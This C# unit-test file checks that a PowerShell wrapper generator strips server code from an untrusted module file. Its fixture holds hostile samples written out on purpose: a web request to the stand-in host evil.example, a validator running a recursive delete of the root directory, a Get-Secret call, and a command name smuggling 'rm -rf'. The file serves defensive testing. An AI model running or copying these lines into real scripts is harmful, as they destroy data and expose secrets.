using ExoAdmin.Commands.Module;
using ExoAdmin.Engine.Operations;

namespace ExoAdmin.Commands.Tests;

/// <summary>Commands made from the service's EXOModuleFile: only parsed, and only safe parts carried over.</summary>
public class ServiceCommandsTests
{
    private const string Module = """
        function Execute-Command { param($CmdletName) Invoke-WebRequest https://evil.example }
        function Get-Widget {
            [CmdletBinding()]
            param(
                [Parameter(Mandatory = $true, Position = 0, ValueFromPipelineByPropertyName = $true)] [string] $Identity,
                [ValidateScript({ Remove-Item -Recurse / })] [System.IO.FileInfo] $Path = (Get-Secret),
                [switch] $Force,
                [Parameter()] [bool] $Enabled
            )
            Execute-Command -CmdletName 'Get-Widget'
        }
        function Set-Mailbox { param([string] $Identity) }
        """;

    [Fact]
    public void Keeps_names_safe_types_and_pipeline_flags_but_no_server_code()
    {
        var commands = ServiceCommands.Generate(new ExoModuleFile(Module, ["Get-Widget", "Set-Mailbox", "Not a name; rm -rf"]), "", "conn-1");

        var widget = Assert.Single(commands); // Set-Mailbox is compiled into ExoAdmin; the bad name is dropped
        Assert.Equal("Get-Widget", widget.Key);
        Assert.Contains("[Parameter(Mandatory = $true, Position = 0, ValueFromPipelineByPropertyName = $true)] [string] $Identity", widget.Value);
        Assert.Contains("[object] $Path", widget.Value);
        Assert.Contains("[switch] $Force", widget.Value);
        Assert.Contains("[bool] $Enabled", widget.Value);
        Assert.DoesNotContain("Remove-Item", widget.Value);
        Assert.DoesNotContain("Get-Secret", widget.Value);
        Assert.DoesNotContain("evil", widget.Value);
        Assert.Contains("Invoke-ExoCommand -Name 'Get-Widget'", widget.Value);
    }

    [Fact]
    public void A_prefix_goes_on_the_noun_and_also_covers_compiled_cmdlets()
    {
        var commands = ServiceCommands.Generate(new ExoModuleFile(Module, ["Get-Widget", "Set-Mailbox"]), "Fab", "conn-1");

        Assert.Equal(["Get-FabWidget", "Set-FabMailbox"], commands.Select(c => c.Key));
        Assert.Contains("SupportsShouldProcess = $true", commands[1].Value);
        Assert.Contains("Invoke-ExoCommand -Name 'Set-Mailbox'", commands[1].Value);
    }
}
